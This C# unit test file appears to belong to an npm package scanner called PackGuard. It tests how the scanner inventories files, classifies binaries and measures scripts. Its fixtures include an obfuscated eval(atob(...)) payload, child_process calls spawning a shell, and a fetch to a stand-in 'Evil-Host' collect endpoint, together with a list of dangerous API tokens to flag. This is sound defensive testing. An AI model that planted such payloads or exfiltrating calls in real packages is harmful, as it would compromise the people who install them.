using System.Text;
using PackGuard.Artifacts.Inventory;
using PackGuard.Tests.Scanning;
using PackGuard.Tests.Support;

namespace PackGuard.Tests.Artifacts.Inventory;

/// <summary>The inventory the scan records in its single pass: paths, sizes, hashes, kinds, script measures.</summary>
public sealed class InventoryCollectorTests
{
    private static ArtifactInventory Inventory(params TestFile[] files) => ScanFixture.ScanTarGz(files).Inventory!;

    [Fact]
    public void Paths_lose_the_npm_package_prefix_and_keep_size_and_hash()
    {
        var inventory = Inventory(
            TestFile.Text("package/package.json", """{"name":"a","version":"1.0.0"}"""),
            TestFile.Text("package/lib/index.js", "module.exports = 1;\n"));

        var index = inventory.Find("lib/index.js").ShouldNotBeNull();
        index.ArtifactPath.ShouldBe("package/lib/index.js");
        index.Size.ShouldBe(20);
        index.Sha256.ShouldBe(ScanFixture.Sha256(Encoding.UTF8.GetBytes("module.exports = 1;\n")));
        index.Kind.ShouldBe(FileKind.Text);
        inventory.UnpackedSize.ShouldBe(20 + """{"name":"a","version":"1.0.0"}""".Length);
    }

    [Fact]
    public void Paths_keep_their_top_directory_when_entries_do_not_share_one()
    {
        var inventory = Inventory(TestFile.Text("a/x.txt", "x"), TestFile.Text("b/y.txt", "y"));

        inventory.Entries.Select(e => e.Path).ShouldBe(["a/x.txt", "b/y.txt"]);
    }

    [Fact]
    public void Kinds_come_from_magic_bytes_and_names()
    {
        byte[] elf = [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0];
        byte[] wasm = [0, (byte)'a', (byte)'s', (byte)'m', 1, 0, 0, 0];
        byte[] machO = [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1];
        var inventory = Inventory(
            TestFile.Text("package/index.js.map", ScanFixture.Map(("src/a.ts", "let a = 1;"))),
            new TestFile("package/bin/tool", elf),
            new TestFile("package/x.wasm", wasm),
            new TestFile("package/x.dylib", machO),
            TestFile.Text("package/App.pdb", "Microsoft C/C++ MSF 7.00\r\n"),
            new TestFile("package/vendor.tgz", TestArchive.TarGz([TestFile.Text("a.txt", "a")])),
            TestFile.Text("package/run.sh", "#!/bin/sh\necho hi\n"),
            TestFile.Text("package/README.md", "MZ is not a PE header"));

        string Kind(string path) => inventory.Find(path)!.Kind.ToName();
        Kind("index.js.map").ShouldBe("source-map");
        Kind("bin/tool").ShouldBe("native-binary");
        Kind("x.wasm").ShouldBe("native-binary");
        Kind("x.dylib").ShouldBe("native-binary");
        Kind("App.pdb").ShouldBe("symbols");
        Kind("vendor.tgz").ShouldBe("archive");
        Kind("run.sh").ShouldBe("executable");
        Kind("README.md").ShouldBe("text");
    }

    [Fact]
    public void Entry_points_come_from_main_bin_and_exports()
    {
        var inventory = Inventory(
            TestFile.Text("package/package.json", """{"name":"a","version":"1.0.0","main":"./lib/main","bin":{"a":"bin/a.js"},"exports":{".":{"import":"./esm/index.mjs","require":"./lib/main.js"}}}"""),
            TestFile.Text("package/lib/main.js", "x"),
            TestFile.Text("package/bin/a.js", "x"),
            TestFile.Text("package/esm/index.mjs", "x"),
            TestFile.Text("package/lib/helper.js", "x"));

        inventory.Entries.Where(e => e.EntryPoint).Select(e => e.Path).ShouldBe(["bin/a.js", "esm/index.mjs", "lib/main.js"]);
        inventory.Package.EntryPoints.ShouldContain("lib/main.js");
    }

    [Fact]
    public void Scripts_are_measured_for_entropy_and_minified_share()
    {
        var readable = string.Concat(Enumerable.Repeat("function add(a, b) {\n  return a + b;\n}\n", 50));
        var blob = Convert.ToBase64String(Enumerable.Range(0, 6000).Select(i => (byte)(i * 7919 % 251)).ToArray());
        var inventory = Inventory(
            TestFile.Text("package/plain.js", readable),
            TestFile.Text("package/packed.js", readable + "eval(atob(\"" + blob + "\"));\n"));

        var plain = inventory.Find("plain.js")!.Script.ShouldNotBeNull();
        var packed = inventory.Find("packed.js")!.Script.ShouldNotBeNull();
        plain.MinifiedShare.ShouldBe(0);
        packed.MinifiedShare.ShouldBeGreaterThan(0.7);
        packed.Entropy.ShouldBeGreaterThan(plain.Entropy + 1);
        inventory.Find("plain.js")!.Script!.DangerousApis.ShouldBeEmpty();
        packed.DangerousApis["eval("].ShouldBe(1);
    }

    [Fact]
    public void Scripts_record_dangerous_tokens_but_not_lookalikes()
    {
        var code = """
            const cp = require("child_process");
            exec("ls"); cp.execSync("id"); cp.spawn("sh"); new Function("return 1")(); import("./x.js");
            /a/.exec(s); retrieval(x); myexec(y); evaluate(z);
            """;
        var apis = Inventory(TestFile.Text("package/a.js", code)).Find("a.js")!.Script!.DangerousApis;

        apis.Keys.Order(StringComparer.Ordinal).ShouldBe(["Function(", "child_process", "exec(", "execSync(", "import(", "spawn("]);
        apis["exec("].ShouldBe(1);
    }

    [Fact]
    public void Scripts_record_url_hosts_and_bare_imports()
    {
        var code = """
            import x from "lodash/fp"; const y = require('@scope/pkg/sub'); import("chalk"); import "./local.js";
            fetch("https://api.Evil-Host.io/v1/collect?id=1"); const ns = "http://www.w3.org/2000/svg";
            const t = `https://${host}/x`; const ip = "http://203.0.113.9:8080/p";
            """;
        var script = Inventory(TestFile.Text("package/a.js", code)).Find("a.js")!.Script!;

        script.Endpoints.Keys.Order(StringComparer.Ordinal).ShouldBe(["203.0.113.9", "api.evil-host.io"]);
        script.Endpoints["api.evil-host.io"].ShouldBe("https://api.Evil-Host.io/v1/collect?id=1");
        script.Imports.Order(StringComparer.Ordinal).ShouldBe(["@scope/pkg", "chalk", "lodash"]);
    }

    [Fact]
    public void Literals_split_across_chunk_boundaries_are_found_once()
    {
        // Chunks are 128 KiB or less; padding puts each literal across a boundary somewhere in the run.
        var builder = new StringBuilder();
        for (var i = 0; i < 400; i++)
            builder.Append(new string(' ', 997 + i)).Append($"eval(1); fetch(\"https://h{i}.example.org/x\");\n");
        var script = Inventory(TestFile.Text("package/big.js", builder.ToString())).Find("big.js")!.Script!;

        script.DangerousApis["eval("].ShouldBe(400);
        script.Endpoints.Count.ShouldBe(400);
    }

    [Fact]
    public void Endpoint_sets_are_capped()
    {
        var code = string.Concat(Enumerable.Range(0, 1500).Select(i => $"u(\"https://host{i}.example.io/\");\n"));
        var script = Inventory(TestFile.Text("package/many.js", code)).Find("many.js")!.Script!;

        script.Endpoints.Count.ShouldBe(1000);
        script.Capped.ShouldBeTrue();
    }
}
